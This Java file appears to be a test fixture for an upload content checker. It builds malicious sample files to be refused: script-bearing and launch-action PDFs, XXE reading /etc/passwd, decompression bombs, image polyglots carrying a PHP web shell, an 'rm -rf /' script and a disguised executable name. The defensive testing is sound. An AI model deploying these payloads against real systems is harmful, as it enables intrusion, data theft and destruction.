package vn.namro.proving.contentcheck;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;

/** PDFs, pictures and other files that would run, hide, swell or are not what they seem: every one of these has to be refused. */
final class HarmfulFiles {

	private final List<Sample> samples = new ArrayList<>();

	static List<Sample> all() {
		HarmfulFiles files = new HarmfulFiles();
		files.pdfActions();
		files.pdfSwelling();
		files.pdfLocked();
		files.twoInOne();
		files.cutOff();
		files.kinds();
		files.extensions();
		files.hugePictures();
		files.samples.addAll(HarmfulDocuments.all());
		files.samples.addAll(HarmfulDisguises.all());
		return files.samples;
	}

	private void add(String what, String name, byte[] bytes, Refusal refusal) {
		this.samples.add(Sample.harmful(what, name, bytes, refusal));
	}

	private void pdf(String what, Refusal refusal, String catalog, String... objects) {
		add(what, "a.pdf", Pdfs.raw(catalog, objects), refusal);
		// the same in an object stream, where nobody sees it without unpacking
		StringBuilder text = new StringBuilder();
		for (String object : objects) {
			text.append(object).append('\n');
		}
		if (!text.isEmpty()) {
			byte[] stream = Pdfs.stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", Pdfs.deflated(Pdfs.latin("4 0 " + text)));
			add(what + ", packed", "a.pdf", Pdfs.raw("/X 4 0 R", List.of(stream)), refusal);
		}
	}

	private void pdfActions() {
		for (String name : List.of("/JavaScript", "/Java#53cript", "/#4a#61#76#61#53#63#72#69#70#74", "/J#61vaScript")) {
			pdf("script by " + name, Refusal.SCRIPT, "/OpenAction 4 0 R", "<< /S " + name + " /JS (app.alert(1)) >>");
		}
		pdf("script among the names", Refusal.SCRIPT, "/Names 4 0 R", "<< /JavaScript << /Names [(a) 5 0 R] >> >>");
		pdf("script by reference", Refusal.SCRIPT, "/OpenAction 4 0 R", "<< /S 5 0 R /JS (x) >>", "/JavaScript");
		pdf("script when a page opens", Refusal.SCRIPT, "/AA << /WC 4 0 R >>", "<</S/JavaScript/JS<6170702e>>>");
		for (String action : List.of("/Launch", "/L#61unch", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE")) {
			pdf("action " + action, Refusal.ACTION, "/OpenAction 4 0 R", "<< /Type /Action /S " + action + " /F (cmd.exe) >>");
		}
		for (String address : List.of("(javascript:alert\\(1\\))", "(file:///C:/Windows/system32/calc.exe)", "(\\\\\\\\evil\\\\a)", "<6a617661736372697074 3a 61>", "(\\152avascript:a)", "(JaVaScRiPt:a)",
				"( javascript:a)", "(vbscript:a)", "(data:text/html,x)", "(ms-msdt:/id)", "(FILE://evil/a)")) {
			pdf("address " + address, Refusal.ACTION, "/OpenAction 4 0 R", "<< /S /URI /URI " + address + " >>");
		}
		for (String media : List.of("/RichMedia", "/3D", "/Movie", "/Sound", "/Screen")) {
			pdf("media " + media, Refusal.MEDIA, "/X 4 0 R", "<< /Type /Annot /Subtype " + media + " /Rect [0 0 1 1] >>");
		}
		pdf("rendition", Refusal.MEDIA, "/OpenAction 4 0 R", "<< /S /Rendition /OP 0 >>");
		pdf("file inside", Refusal.EMBEDDED, "/Names << /EmbeddedFiles 4 0 R >>", "<< /Names [(a.exe) 5 0 R] >>", "<< /Type /Filespec /EF << /F 6 0 R >> >>");
		pdf("file pinned to a page", Refusal.EMBEDDED, "/X 4 0 R", "<< /Type /Annot /Subtype /FileAttachment >>");
		add("file as a stream", "a.pdf", Pdfs.raw("/X 4 0 R", List.of(Pdfs.stream("/Type /EmbeddedFile", HarmfulDocuments.program()))), Refusal.EMBEDDED);
		for (String script : List.of("<xdp><template><event><script>app.alert(1)</script></event></template></xdp>", "<x:script xmlns:x='a'/>", "<submit target='http://evil.example'/>")) {
			add("form with " + script, "a.pdf",
					Pdfs.raw("/AcroForm << /Fields [] /XFA 4 0 R >>", List.of(Pdfs.stream("/Filter /FlateDecode", Pdfs.deflated(Pdfs.latin(script))))), Refusal.SCRIPT);
			add("form in parts with " + script, "a.pdf", Pdfs.raw("/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>", List.of(Pdfs.stream("", Pdfs.latin(script)))), Refusal.SCRIPT);
		}
		add("form with entities", "a.pdf", Pdfs.raw("/AcroForm << /Fields [] /XFA 4 0 R >>", List.of(Pdfs.stream("", Pdfs.latin("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>")))),
				Refusal.DTD);
		add("old revision with a script", "a.pdf", Zips.joined(Pdfs.raw("/OpenAction 4 0 R", "<< /S /JavaScript /JS (x) >>"), Pdfs.raw("")), Refusal.SCRIPT);
	}

	private void pdfSwelling() {
		byte[] zeros = Pdfs.zeros(20L * 1024 * 1024);
		add("objects that swell", "a.pdf", Pdfs.raw("/X 4 0 R", List.of(Pdfs.stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", zeros))), Refusal.BOMB);
		add("index that swells", "a.pdf", Pdfs.raw("/X 4 0 R", List.of(Pdfs.stream("/Type /XRef /Filter [/FlateDecode]", zeros))), Refusal.BOMB);
		add("page that swells", "a.pdf", Pdfs.raw("/X 4 0 R", List.of(Pdfs.stream("/Filter /FlateDecode", Pdfs.zeros(270L * 1024 * 1024)))), Refusal.BOMB);
		for (String filters : List.of("[/FlateDecode /FlateDecode]", "[/Fl /Fl]", "[/FlateDecode /LZWDecode]", "[ /Flate#44ecode /FlateDecode ]", "[/RunLengthDecode /FlateDecode]")) {
			add("packed twice by " + filters, "a.pdf", Pdfs.raw("/X 4 0 R", List.of(Pdfs.stream("/Filter " + filters, Pdfs.deflated(zeros)))), Refusal.BOMB);
		}
		for (String filter : List.of("/LZWDecode", "/ASCIIHexDecode", "[/ASCII85Decode /FlateDecode]", "5 0 R")) {
			add("objects hidden by " + filter, "a.pdf", Pdfs.raw("/X 4 0 R", List.of(Pdfs.stream("/Type /ObjStm /N 1 /First 4 /Filter " + filter, new byte[50]))), Refusal.CORRUPT);
		}
	}

	private void pdfLocked() {
		for (int bits : new int[] { 40, 128, 256 }) {
			add("password, " + bits + " bits", "a.pdf", Pdfs.encrypted(bits, "mật khẩu"), Refusal.ENCRYPTED);
			add("restrictions, " + bits + " bits", "a.pdf", Pdfs.encrypted(bits, ""), Refusal.ENCRYPTED);
		}
	}

	private void twoInOne() {
		byte[] pdf = Pdfs.letterWith(true, 1, document -> { }, "x");
		byte[] zip = Zips.empty().with("META-INF/MANIFEST.MF", "x").bytes();
		byte[] page = "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8);
		byte[] png = Pictures.picture("png", 50, 50, 3);
		byte[] jpeg = Pictures.picture("jpg", 50, 50, 3);
		for (Map.Entry<String, byte[]> file : Map.of("a.pdf", pdf, "a.png", png, "a.jpg", jpeg, "a.tif", Pictures.pages(1, 2, true), "a.webp", Pictures.webp(9, 9, 40)).entrySet()) {
			add("archive behind", file.getKey(), Zips.joined(file.getValue(), zip), Refusal.POLYGLOT);
			if (!file.getKey().endsWith("pdf")) {
				add("page behind", file.getKey(), Zips.joined(file.getValue(), page), Refusal.POLYGLOT);
				add("page behind, after blanks", file.getKey(), Zips.joined(file.getValue(), new byte[100], page), Refusal.POLYGLOT);
				add("PHP behind", file.getKey(), Zips.joined(file.getValue(), Pdfs.latin("<?php system($_GET['c']); ?>")), Refusal.POLYGLOT);
			}
		}
		for (Map.Entry<String, byte[]> file : Map.of("a.png", png, "a.jpg", jpeg).entrySet()) {
			add("program behind", file.getKey(), Zips.joined(file.getValue(), HarmfulDocuments.program()), Refusal.POLYGLOT);
			add("PDF behind", file.getKey(), Zips.joined(file.getValue(), pdf), Refusal.POLYGLOT);
			add("RAR behind", file.getKey(), Zips.joined(file.getValue(), Pdfs.latin("Rar!\u001a\u0007\0xxxx")), Refusal.POLYGLOT);
		}
		add("comment of a photograph", "a.jpg", Zips.joined(Arrays.copyOf(jpeg, 2), new byte[] { (byte) 0xff, (byte) 0xfe, 0, (byte) (page.length + 2) }, page, Arrays.copyOfRange(jpeg, 2, jpeg.length)),
				Refusal.POLYGLOT);
		add("long tail", "a.pdf", Zips.joined(pdf, "x".repeat(3_000).getBytes(StandardCharsets.UTF_8)), Refusal.POLYGLOT);
		add("long tail, far", "a.pdf", Zips.joined(pdf, "x".repeat(200_000).getBytes(StandardCharsets.UTF_8)), Refusal.POLYGLOT);
		for (String before : List.of("x\n", "GIF89a=1;", "<html><script>a</script>", "\0\0\0", "//\n", "BM....")) {
			add("PDF after " + before, "a.pdf", Zips.joined(Pdfs.latin(before), pdf), Refusal.POLYGLOT);
		}
		add("page in the first line", "a.pdf", Zips.joined(Pdfs.latin("%PDF-1.4\n%<html><script>alert(1)</script>\n"), pdf), Refusal.POLYGLOT);
		add("program before an archive", "a.docx", Zips.joined(HarmfulDocuments.program(), Zips.docx().bytes()), Refusal.EXECUTABLE);
		add("document before an archive", "a.docx", Zips.joined(Zips.docx().bytes(), zip), Refusal.POLYGLOT);
		add("tail of a document", "a.docx", Zips.joined(Zips.docx().bytes(), page), Refusal.POLYGLOT);
	}

	private void cutOff() {
		Map<String, byte[]> whole = Map.of("a.pdf", Pdfs.letterWith(true, 2, document -> { }, "x"), "a.docx", Zips.docx().bytes(), "a.xlsx", Zips.xlsx().bytes(), "a.odt",
				Zips.openDocument(FileKind.ODT).bytes(), "a.png", Pictures.picture("png", 200, 200, 1), "a.jpg", Pictures.picture("jpg", 200, 200, 1), "a.tif", Pictures.pages(2, 1, false), "a.webp",
				Pictures.webp(20, 20, 400));
		for (Map.Entry<String, byte[]> file : whole.entrySet()) {
			for (int percent : new int[] { 40, 70, 97 }) {
				byte[] bytes = file.getValue();
				add("cut off at " + percent + " %", file.getKey(), Arrays.copyOf(bytes, Math.min(bytes.length - 3, bytes.length * percent / 100)), Refusal.CORRUPT);
			}
		}
		byte[] damaged = Zips.docx().with("word/a.bin", "đúng".repeat(100)).bytes();
		damaged[new String(damaged, StandardCharsets.ISO_8859_1).indexOf("word/a.bin") + 14] ^= 0x55;
		add("damaged part", "a.docx", damaged, Refusal.CORRUPT);
		add("XML that is none", "a.docx", Zips.docx("<w:p>").bytes(), Refusal.CORRUPT);
		add("only a first line", "a.pdf", Pdfs.latin("%PDF-1.7\n"), Refusal.CORRUPT);
		add("nothing between", "a.pdf", Pdfs.latin("%PDF-1.7\nrubbish\n%%EOF\n"), Refusal.CORRUPT);
		add("empty", "a.pdf", new byte[0], Refusal.EMPTY);
	}

	private void kinds() {
		for (String name : List.of("a.exe", "a.pdf", "báo cáo\u202efdp.exe", "a.pdf.exe", "a.docx", "a.jpg", "a")) {
			add("program", name, HarmfulDocuments.program(), Refusal.EXECUTABLE);
		}
		add("program", "a.pdf", Pdfs.latin("\u007fELF\u0002\u0001\u0001" + "\0".repeat(50)), Refusal.EXECUTABLE);
		add("script", "a.txt", Pdfs.latin("#!/bin/sh\nrm -rf /\n"), Refusal.EXECUTABLE);
		add("class", "a.pdf", Pdfs.latin("\u00ca\u00fe\u00ba\u00be\0\0\0\u0041"), Refusal.EXECUTABLE);
		add("library", "a.docx", Zips.empty().with("META-INF/MANIFEST.MF", "Main-Class: a").bytes(), Refusal.EXECUTABLE);
		add("short cut", "a.pdf", Pdfs.latin("L\0\0\0\u0001\u0014\u0002\0\0\0\0\0\u00c0"), Refusal.EXECUTABLE);
		for (String archive : List.of("Rar!\u001a\u0007\u0001\0", "7z\u00bc\u00af\u0027\u001c\0\u0004", "\u001f\u008b\u0008\0\0\0\0\0", "BZh91AY&SY", "MSCF\0\0\0\0", "\u00fd7zXZ\0")) {
			add("archive", "a.pdf", Pdfs.latin(archive + "\0".repeat(60)), Refusal.ARCHIVE);
			add("archive", "a.rar", Pdfs.latin(archive + "\0".repeat(60)), Refusal.ARCHIVE);
		}
		add("archive of documents", "hồ sơ.zip", Zips.empty().with("a.pdf", Pdfs.raw("")).bytes(), Refusal.ARCHIVE);
		for (String page : List.of("<html><body>x</body></html>", "<!DOCTYPE html><p>x", "  \n<script>alert(1)</script>", "<svg xmlns='http://www.w3.org/2000/svg' onload='a()'/>",
				"<?xml version='1.0'?><a/>", "<?php phpinfo(); ?>", "\u00ef\u00bb\u00bf<html>", "<!-- x --><html>")) {
			for (String name : List.of("a.html", "a.txt", "a.svg", "a.pdf")) {
				add("page " + page, name, Pdfs.latin(page), Refusal.MARKUP);
			}
		}
		add("page after text", "a.txt", ("chữ ".repeat(50_000) + "<script>alert(1)</script>").getBytes(StandardCharsets.UTF_8), Refusal.MARKUP);
		add("rich text", "a.rtf", Pdfs.latin("{\\rtf1 {\\object\\objdata 01}}"), Refusal.KIND);
		add("rich text as a letter", "a.doc", Pdfs.latin("{\\rtf1 x}"), Refusal.KIND);
		add("picture that moves", "a.gif", Pdfs.latin("GIF89a\1\0\1\0\0\0\0"), Refusal.KIND);
		add("bytes", "a.pdf", new byte[300], Refusal.KIND);
		for (String name : List.of("a.bat", "a.js", "a.vbs", "a.ps1", "a.hta", "a.reg", "a.url", "a.desktop", "a.cmd", "a.scf")) {
			add("text that runs", name, Pdfs.latin("start calc\r\n"), Refusal.KIND);
		}
	}

	private void extensions() {
		byte[] pdf = Pdfs.letterWith(true, 1, document -> { }, "x");
		for (String name : List.of("a.docx", "a.jpg", "a.png", "a.xlsx", "a.txt", "a.doc")) {
			add("PDF as " + name, name, pdf, Refusal.EXTENSION);
		}
		for (String name : List.of("a.pdf", "a.xlsx", "a.doc", "a.odt")) {
			add("letter as " + name, name, Zips.docx().bytes(), Refusal.EXTENSION);
		}
		add("photograph as a screen", "a.png", Pictures.picture("jpg", 10, 10, 1), Refusal.EXTENSION);
		add("text as a PDF", "a.pdf", Pdfs.latin("chi la van ban"), Refusal.EXTENSION);
		add("page name", "a.html", pdf, Refusal.KIND);
		add("program name", "a.exe", pdf, Refusal.KIND);
	}

	private void hugePictures() {
		byte[] png = Pictures.picture("png", 10, 10, 1);
		byte[] jpeg = Pictures.picture("jpg", 10, 10, 1);
		int size = new String(jpeg, StandardCharsets.ISO_8859_1).indexOf("\u00ff\u00c0") + 5;
		for (int[] sides : new int[][] { { 60_000, 60_000 }, { 31_000, 10 }, { 20_000, 20_000 }, { 10, 65_000 } }) {
			add("huge screen", "a.png", Pictures.sized(png, 16, 4, sides[0], sides[1], true), Refusal.PICTURE);
			add("huge photograph", "a.jpg", Pictures.sized(jpeg, size, 2, sides[0], sides[1], false), Refusal.PICTURE);
			add("huge web picture", "a.webp", Pictures.webp(sides[0], sides[1], 10), Refusal.PICTURE);
		}
		add("screen beyond any number", "a.png", Pictures.sized(png, 16, 4, 0x7fffffff, 0x7fffffff, true), Refusal.PICTURE);
		add("screen of nothing", "a.png", Pictures.sized(png, 16, 4, 0, 0, true), Refusal.CORRUPT);
	}

}
